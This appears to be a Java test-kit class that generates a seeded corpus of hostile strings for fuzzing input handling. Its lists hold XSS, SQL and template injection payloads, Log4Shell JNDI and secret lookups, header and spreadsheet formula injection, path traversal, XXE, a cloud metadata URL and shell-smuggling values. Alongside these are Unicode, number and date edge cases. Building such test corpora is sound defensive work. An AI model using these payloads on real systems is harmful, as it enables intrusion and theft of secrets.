package org.twentyweeks.testkit.hostile;

import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Random;
import java.util.function.Consumer;
import java.util.stream.Collectors;

/**
 * Texts of every kind that has broken somebody's software, the same ones for the same seed. None is copied from a list of
 * others: each kind is a few sources, spelled out, and what the seed makes of them.
 */
public final class HostileTexts {

    private static final int SAMPLES_OF_A_CLASS = 2;
    private static final int SPLICES = 80;
    private static final int RANDOM_TEXTS = 40;
    private static final int RANDOM_LENGTH_MAX = 60;

    private static final List<String> MARKUP = List.of(
            "<script>alert(1)</script>",
            "\"><script>alert(1)</script>",
            "'><img src=x onerror=alert(1)>",
            "\" autofocus onfocus=alert(1) x=\"",
            "' autofocus onfocus='alert(1)",
            "` onmouseover=alert(1) `",
            " value=\"other\" type=\"submit",
            "</textarea><script>alert(1)</script>",
            "</title><script>alert(1)</script>",
            "</dd></dl><form action=//example.org><input name=token>",
            "--><script>alert(1)</script><!--",
            "<!--",
            "<![CDATA[<b>]]>",
            "<svg/onload=alert(1)>",
            "<svg><script>alert&#40;1&#41;</script>",
            "<math><mtext></mtext><a xlink:href=\"javascript:alert(1)\">x",
            "<iframe srcdoc=\"&lt;script&gt;\">",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<base href=\"//example.org/\">",
            "<meta http-equiv=refresh content=\"0;url=//example.org\">",
            "<link rel=stylesheet href=//example.org>",
            "<style>*{display:none}</style>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><b></template>",
            "<plaintext>",
            "<xmp>",
            "</",
            "<",
            "<a<b<c",
            "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
            "<\u0073cript>alert(1)</\u0073cript>",
            "&lt;script&gt;",
            "&#60;script&#62;",
            "&#x3c;script",
            "&amp;amp;lt;",
            "&",
            "&#0;",
            "&#xD800;",
            "&#1114112;",
            "&nbsp",
            "\uFF1Cscript\uFF1E",
            "\u2039script\u203A",
            "javascript:alert(1)",
            "data:text/html,<b>",
            "\"",
            "'",
            "`",
            "\\\"",
            "\"\"\"",
            "O'Neill & Sons <\"quoted\">");

    private static final List<String> SQL = List.of(
            "' OR '1'='1",
            "\" OR \"\"=\"",
            "1; DROP TABLE cases",
            "Robert'); DROP TABLE students;--",
            "' UNION SELECT NULL,NULL--",
            "admin'--",
            "1' AND SLEEP(5)#",
            "'||(SELECT 1)||'",
            "\\'; EXEC xp_cmdshell('dir')--",
            "%27%20OR%201=1",
            "0x27",
            "CHAR(39)",
            "/**/OR/**/1=1",
            "' OR 1=1 LIMIT 1 OFFSET 1 --",
            "\u02BC OR 1=1",
            "\uFF07 OR 1=1");

    private static final List<String> PARTIQL = List.of(
            "' OR attribute_exists(caseId) --",
            "SELECT * FROM \"cases\"",
            "x' OR begins_with(part, 'person')",
            "attribute_not_exists(caseId)",
            ":from",
            "#part",
            "head",
            "fact#000001",
            "person#000001",
            "person#",
            "{\"S\":\"x\"}",
            "{\"$gt\":\"\"}",
            "{\"$where\":\"sleep(1)\"}",
            "[$ne]=1",
            "SIZE(original) > 0",
            "NULL");

    private static final List<String> TEMPLATES = List.of(
            "{{token}}",
            "{{{token}}}",
            "{{&token}}",
            "{{#hidden}}{{name}}{{/hidden}}",
            "{{>head}}",
            "{{=<% %>=}}",
            "{{! a comment",
            "{{",
            "}}",
            "{{.}}",
            "{{this.class}}",
            "${7*7}",
            "#{7*7}",
            "*{7*7}",
            "<%= 7*7 %>",
            "${T(java.lang.Runtime).getRuntime()}",
            "#set($x=1)",
            "[[${7*7}]]",
            "{% import os %}",
            "@(7*7)",
            "{child}",
            "{childs}",
            "{0}",
            "%s%s%s%n",
            "%n%d%x",
            "%1$s",
            "%99999999d",
            "$1",
            "\\1",
            "\\E\\Q");

    private static final List<String> LOGS = List.of(
            "x\n{\"function\":\"referral-intake\",\"status\":201}",
            "x\r\nERROR everything is lost",
            "x\",\"status\":201,\"outcome\":\"accepted",
            "\u001B[2J\u001B[31mred",
            "\u001B]0;title\u0007",
            "${jndi:ldap://example.org/a}",
            "${${lower:j}ndi:ldap://example.org/a}",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "${sys:aws.secretAccessKey}",
            "{\"_aws\":{\"CloudWatchMetrics\":[]}}",
            "x\u2028y",
            "x\u2029y",
            "x\u0085y",
            "x\u000By");

    private static final List<String> HEADERS = List.of(
            "x\r\nBcc: everyone@example.org",
            "x\r\nSet-Cookie: a=b",
            "x\nLocation: //example.org",
            "x%0d%0aSet-Cookie:%20a=b",
            "x\u560A\u560DSet-Cookie: a=b",
            "x\r\n\r\n<html>",
            "a@example.org,b@example.org",
            "a@example.org%0aBcc:b@example.org",
            "\"a b\"@example.org",
            "a@b@c",
            "@",
            "a@",
            "a@.b",
            "=?utf-8?q?=41?=");

    private static final List<String> FORMULAS = List.of(
            "=1+1",
            "=HYPERLINK(\"//example.org\",\"x\")",
            "=cmd|' /C calc'!A0",
            "=DDE(\"cmd\",\"/C calc\",\"x\")",
            "=IMPORTXML(\"//example.org\",\"//a\")",
            "=WEBSERVICE(\"//example.org\")",
            "+1+1",
            "-1+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1,1)",
            "@A1",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\u0000=1+1",
            " =1+1",
            "\"=1+1",
            "'=1+1",
            ";=1+1",
            ",=1+1",
            "|=1+1",
            "\uFF1D1+1",
            "\uFF0B1+1",
            "\uFF0D1+1",
            "\uFF20SUM(1)",
            "%0A=1+1",
            "\uFEFF=1+1",
            "1;=1+1",
            "1\"\n=1+1",
            "{=1+1}");

    private static final List<String> PATHS = List.of(
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "%2e%2e%2f",
            "..%2f",
            "%252e%252e%252f",
            "..%c0%af",
            "....//",
            "/",
            "//example.org",
            "\\\\example.org\\share",
            "file:///etc/passwd",
            ".",
            "..",
            "...",
            "a/b",
            "a%2Fb",
            "a%00.css",
            "a;b",
            "a?b",
            "a#b",
            "~",
            "CON",
            "aux.txt",
            "nul",
            "http://169.254.169.254/latest/meta-data/",
            "jar:file:/a!/b",
            "$(id)",
            "`id`",
            "; ls",
            "| ls",
            "&& ls",
            "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            "*)(uid=*",
            "' or count(/*)=1 or '",
            "xn--a",
            "-rf",
            "--help");

    private static final List<String> NUMBERS = List.of(
            "0",
            "-0",
            "00",
            "1",
            "-1",
            "+1",
            "1.0",
            "1,5",
            "1e3",
            "1e400",
            "-1e400",
            "1e-400",
            "1e9999999999",
            "1E+2147483648",
            "2147483647",
            "2147483648",
            "-2147483649",
            "9007199254740993",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775809",
            "18446744073709551616",
            "340282366920938463463374607431768211456",
            "0.1",
            ".1",
            "1.",
            "0x10",
            "0b11",
            "0o17",
            "017",
            "1_000",
            "1 000",
            "1\u00A0000",
            "NaN",
            "Infinity",
            "-Infinity",
            "1/0",
            "\u00BD",
            "\u2163",
            "\u0661\u0662\u0663",
            "\uFF11\uFF12",
            "\uD835\uDFCF",
            "\u00B2",
            "\u4E09",
            "99999999999999999999999999999999999999999999999999999999999999999999999",
            "0000000000000000000000000000000000000000000000000000000000000000000001",
            "1.7976931348623157e309",
            "5e-325",
            "2.2250738585072011e-308");

    private static final List<String> DATES = List.of(
            "0000-00-00",
            "0000-01-01",
            "0001-01-01",
            "-0001-01-01",
            "9999-12-31",
            "10000-01-01",
            "+10000-01-01",
            "+999999999-12-31",
            "-999999999-01-01",
            "+1000000000-01-01",
            "2015-02-29",
            "2016-02-29",
            "2100-02-29",
            "2000-02-30",
            "2015-04-31",
            "2015-13-01",
            "2015-00-10",
            "2015-01-00",
            "2015-01-32",
            "2015-1-1",
            "15-01-01",
            "01/02/2015",
            "02/13/2015",
            "2015/01/01",
            "20150101",
            "2015-W01-1",
            "2015-001",
            "2015-01-01T00:00:00Z",
            "2015-01-01Z",
            "2015-01-01 ",
            "2015\u201001\u201001",
            "\u0662\u0660\u0661\u0665-\u0660\u0661-\u0660\u0661",
            "\uFF12\uFF10\uFF11\uFF15-01-01",
            "1 January 2015",
            "Jan 1, 2015",
            "yesterday",
            "today",
            "now()",
            "1900-02-29",
            "1752-09-03",
            "1582-10-10",
            "1970-01-01",
            "2038-01-19",
            "1420070400",
            "2026-03-29T01:30",
            "2026-10-25",
            "-",
            "--",
            "2015--01-01",
            "2015-01-01-01",
            "31 2 2017",
            "february",
            "sept",
            "ma",
            "jan\u0131ary",
            "\u5E73\u621027\u5E74");

    private static final List<String> WORDS = List.of(
            "null",
            "undefined",
            "true",
            "false",
            "none",
            "nil",
            "N/A",
            "NULL",
            "Null",
            "[object Object]",
            "{}",
            "[]",
            "\"\"",
            "\\",
            "\\u0000",
            "\\x00",
            "\\n",
            "\\uD83D",
            "__proto__",
            "constructor",
            "prototype",
            "toString",
            "hashCode",
            "class",
            "__defineGetter__",
            "@type",
            "@class",
            "$ref",
            "java.lang.String",
            "PARENT",
            "parent",
            "UNKNOWN",
            "YOUNG_PERSON",
            "REDACTED",
            "Test",
            "Jennifer Null",
            "Scunthorpe",
            "Zz",
            "token",
            "f1.AAAAAAAAAAAAAAAAAAAAAA.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
            "",
            " ",
            "  two  spaces  ",
            "\t",
            "\n",
            "\r\n",
            "a\rb",
            "a\r\nb",
            "a\n\n\nb",
            "a\fb");

    private static final List<String> UNICODE = List.of(
            "Zo\u00EB",
            "Zoe\u0308",
            "Zoe\u0308\u0301\u0327",
            "\u212B",
            "\u1E9B\u0323",
            "\uFB01nd",
            "Stra\u00DFe",
            "\u1E9E",
            "\u0130stanbul",
            "\u0131",
            "\u03A3\u03C3\u03C2",
            "\u01C5",
            "\u0390",
            "\uD55C\uAE00",
            "\u1112\u1161\u11AB",
            "\u0639\u0644\u064A",
            "\u05E2\u05D1\u05E8\u05D9\u05EA",
            "abc\u0639\u0644\u064Adef",
            "\u0939\u093F\u0928\u094D\u0926\u0940",
            "\u0E01\u0E33",
            "\u4E2D\u6587",
            "\uD842\uDFB7",
            "\uD83D\uDE00",
            "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
            "\uD83C\uDDEC\uD83C\uDDE7",
            "\uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC65\uDB40\uDC6E\uDB40\uDC67\uDB40\uDC7F",
            "\u2764\uFE0F",
            "SW\uD83D\uDE001A",
            "AB\uD83D\uDE0012",
            "ABC\uD83D\uDE00D",
            "AB1\uD83D\uDE002C\uD83D\uDE00",
            "\u200B",
            "a\u200Bb",
            "a\u200Cb\u200Dc",
            "a\u00ADb",
            "\uFEFFa",
            "a\uFEFFb",
            "a\u2060b",
            "\u00A0",
            "\u00A0a\u00A0",
            "\u2003a\u3000b",
            "\u1680",
            "\u180E",
            "\u202F",
            "\u115F",
            "\u2800",
            "\uFFFC",
            "\uFFFD",
            "\uFFFE",
            "\uFFFF",
            "\uD83F\uDFFF",
            "\uDBFF\uDFFF",
            "\uE000",
            "\uDB80\uDC00",
            "\uDB40\uDC01",
            "\u0378",
            "\u0301alone",
            "\u20DD",
            "\uFE00",
            "\u0149",
            "\u0344",
            "\u0958",
            "\u2126",
            "\uF900",
            "\uFDFA",
            "\u3300",
            "\u2474",
            "\u1D2C",
            "\uA640",
            "\u13A0\uAB70",
            "p\u0430ypal",
            "\uFF21\uFF22",
            "\uD835\uDD38");

    private static final List<String> ENCODINGS = List.of(
            "Zo\u00C3\u00AB",
            "Zo\u00E3\u00AB",
            "\u00E2\u20AC\u2122",
            "\u00EF\u00BB\u00BF",
            "\u00FE\u00FFZ",
            "+AGE-",
            "+ADw-script+AD4-",
            "%C3%AB",
            "%u00EB",
            "%00",
            "%",
            "%%",
            "%zz",
            "%C0%AF",
            "+",
            "a+b",
            "a%2Bb",
            "a%20b",
            "a&b=c",
            "a=b",
            ";",
            "=",
            "\\xC3\\xAB",
            "\u0080\u0081\u0091\u009F",
            "\u20AC\u201C\u201D",
            "Wm9l",
            "\uFFFDo\uFFFD");

    private static final List<String> HALVES = List.of(
            "\uD83D",
            "\uDE00",
            "a\uD83Db",
            "a\uDE00b",
            "\uDE00\uD83D",
            "\uD83D\uD83D\uDE00",
            "\uD83D\uDE00\uDE00",
            "\uD800",
            "\uDFFF",
            "<\uD800script>",
            "A\uD8001 2BC");

    private HostileTexts() {}

    /** All of them, shuffled, each once. */
    public static List<HostileText> of(long seed) {
        var random = new Random(seed);
        var texts = new LinkedHashMap<String, HostileText>();
        Consumer<HostileText> add = hostile -> texts.putIfAbsent(hostile.text(), hostile);
        listed("markup", MARKUP, add);
        listed("SQL", SQL, add);
        listed("PartiQL", PARTIQL, add);
        listed("templates", TEMPLATES, add);
        listed("log lines", LOGS, add);
        listed("header lines", HEADERS, add);
        listed("formulas", FORMULAS, add);
        listed("paths", PATHS, add);
        listed("numbers", NUMBERS, add);
        listed("dates", DATES, add);
        listed("words", WORDS, add);
        listed("Unicode", UNICODE, add);
        listed("encodings", ENCODINGS, add);
        listed("half pairs", HALVES, add);
        controls(add);
        readingOrder(add);
        unicodeClasses(random, add);
        lengths(add);
        splices(random, List.copyOf(texts.values()), add);
        randomTexts(random, add);
        var shuffled = new ArrayList<>(texts.values());
        Collections.shuffle(shuffled, random);
        return List.copyOf(shuffled);
    }

    private static void listed(String category, List<String> texts, Consumer<HostileText> add) {
        texts.forEach(text -> add.accept(new HostileText(category, text)));
    }

    /** Every control character of ASCII and Latin 1, within a word, and a few at its edges. */
    private static void controls(Consumer<HostileText> add) {
        for (int symbol = 0; symbol < 0xA0; symbol++) {
            if (Character.getType(symbol) == Character.CONTROL) {
                var text = Character.toString(symbol);
                add.accept(new HostileText("controls", "Id" + text + "ris"));
                if (symbol % 8 == 0) {
                    add.accept(new HostileText("controls", text));
                    add.accept(new HostileText("controls", text + "Idris" + text));
                }
            }
        }
    }

    /** Every character that turns the reading order, and pairs of them. */
    private static void readingOrder(Consumer<HostileText> add) {
        int[] turning = {0x061C, 0x200E, 0x200F, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069
        };
        for (int symbol : turning) {
            var mark = Character.toString(symbol);
            add.accept(new HostileText("reading order", "ab" + mark + "cd"));
            add.accept(new HostileText("reading order", mark));
            add.accept(new HostileText("reading order", mark + "\u0639gpj.exe\u202C"));
        }
    }

    /** A few code points of each general category of Unicode, alone and within a word. */
    private static void unicodeClasses(Random random, Consumer<HostileText> add) {
        var classes = new LinkedHashMap<Integer, List<Integer>>();
        for (int tries = 0; tries < 200_000; tries++) {
            // Half of the tries among the first 0x3100, where most categories are.
            int symbol = random.nextBoolean() ? random.nextInt(0x3100) : random.nextInt(Character.MAX_CODE_POINT + 1);
            var samples = classes.computeIfAbsent(Character.getType(symbol), category -> new ArrayList<>());
            if (samples.size() < SAMPLES_OF_A_CLASS && !samples.contains(symbol)) {
                samples.add(symbol);
            }
        }
        classes.values()
                .forEach(samples -> samples.forEach(symbol -> {
                    var text = Character.toString(symbol);
                    add.accept(new HostileText("Unicode classes", text));
                    add.accept(new HostileText("Unicode classes", "Ab" + text + "c " + text + text));
                }));
    }

    private static void lengths(Consumer<HostileText> add) {
        for (int length : new int[] {199, 200, 201, 255, 256, 1_000, 4_097}) {
            add.accept(new HostileText("lengths", "a".repeat(length)));
        }
        add.accept(new HostileText("lengths", "\uD83D\uDE00".repeat(199)));
        add.accept(new HostileText("lengths", "\uD83D\uDE00".repeat(201)));
        add.accept(new HostileText("lengths", "a" + "\u0301".repeat(29)));
        add.accept(new HostileText("lengths", "a" + "\u0301".repeat(31)));
        add.accept(new HostileText("lengths", "a" + "\u0301\u0323".repeat(400)));
        add.accept(new HostileText("lengths", "a" + ("\u0301\u0323".repeat(15) + "\u0000").repeat(40)));
        add.accept(new HostileText("lengths", " ".repeat(1_000)));
        add.accept(new HostileText("lengths", "a" + " ".repeat(1_000) + "b"));
        add.accept(new HostileText("lengths", "a\n".repeat(500)));
        add.accept(new HostileText("lengths", "a.".repeat(500) + "@"));
        add.accept(new HostileText("lengths", "<b>".repeat(300)));
        add.accept(new HostileText("lengths", "\u0000".repeat(300)));
        add.accept(new HostileText("lengths", "\uFDFA".repeat(150)));
        add.accept(new HostileText("lengths", "\u00DF".repeat(150)));
    }

    /** The beginning of one joined to the end of another. */
    private static void splices(Random random, List<HostileText> sources, Consumer<HostileText> add) {
        for (int splice = 0; splice < SPLICES; splice++) {
            var front = sources.get(random.nextInt(sources.size()));
            var back = sources.get(random.nextInt(sources.size()));
            var text = part(front.text(), 0, random.nextInt(front.text().length() + 1))
                    + part(back.text(), random.nextInt(back.text().length() + 1), Integer.MAX_VALUE);
            add.accept(new HostileText("splices", text));
        }
    }

    private static String part(String text, int from, int to) {
        return text.substring(from, Math.min(text.length(), to));
    }

    private static void randomTexts(Random random, Consumer<HostileText> add) {
        for (int number = 0; number < RANDOM_TEXTS; number++) {
            int top =
                    List.of(0x80, 0x800, 0x10000, Character.MAX_CODE_POINT + 1).get(number % 4);
            var text = random.ints(1 + random.nextInt(RANDOM_LENGTH_MAX), 0, top)
                    .mapToObj(Character::toString)
                    .collect(Collectors.joining());
            add.accept(new HostileText("random", text));
        }
    }
}
